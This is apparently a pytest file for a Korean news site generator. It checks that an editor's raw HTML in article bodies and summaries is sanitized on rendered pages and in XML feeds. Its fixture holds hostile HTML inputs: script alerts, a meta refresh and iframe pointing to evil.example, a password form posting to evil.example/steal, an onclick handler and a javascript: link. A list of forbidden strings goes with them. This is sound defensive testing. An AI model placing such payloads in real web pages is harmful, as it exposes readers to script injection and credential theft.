"""An editor's raw HTML goes through the same allow-list as scraped HTML, on the page and in
the feeds (issue 10, item 7): a real strict build."""

from __future__ import annotations

from helpers import build_ok, new_content, write_article

RAW = """첫 문단입니다.

<meta http-equiv="refresh" content="0; url=https://evil.example/">
<script>alert(301)</script>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal"><input name="pw"></form>
<p onclick="alert(302)" style="color:red">붉은 문단</p>
<a href="javascript:alert(303)">나쁜 링크</a> <a href="https://example.go.kr/">좋은 링크</a>

각주가 있는 문장[^1].

[^1]: 각주 내용입니다.
"""
BAD = ("alert(30", "refresh", "<iframe", "<form", "<input", "onclick", "javascript:",
       "evil.example", "style=")


def test_editor_html_is_sanitized_on_pages_and_in_feeds(tmp_path):
    content = new_content(tmp_path / "content")
    write_article(content / "articles", "raw-html", RAW, Title="편집자 HTML",
                  Date="2026-11-24 10:00", Category="정치", Slug="raw-html",
                  Summary="요약 <script>alert(304)</script> 입니다")
    out = tmp_path / "out"
    build_ok(content, out)
    page = (out / "news/raw-html.html").read_text(encoding="utf-8")
    body = page.split('<div class="article-body prose">', 1)[1].split('<p class="news-source">')[0]
    head = page.split("</head>", 1)[0]
    assert "alert(304)" not in head and "refresh" not in head
    for name, text in [("page body", body)] + [
            (p.name, p.read_text(encoding="utf-8")) for p in sorted((out / "feeds").glob("*.xml"))]:
        decoded = text.replace("&lt;", "<").replace("&gt;", ">")  # as a feed reader sees it
        for needle in BAD + ("alert(304)",):
            assert needle not in decoded, (name, needle)
    assert "붉은 문단" in body and 'href="https://example.go.kr/"' in body
    assert 'id="fn:1"' in body and 'href="#fn:1"' in body  # footnotes still link
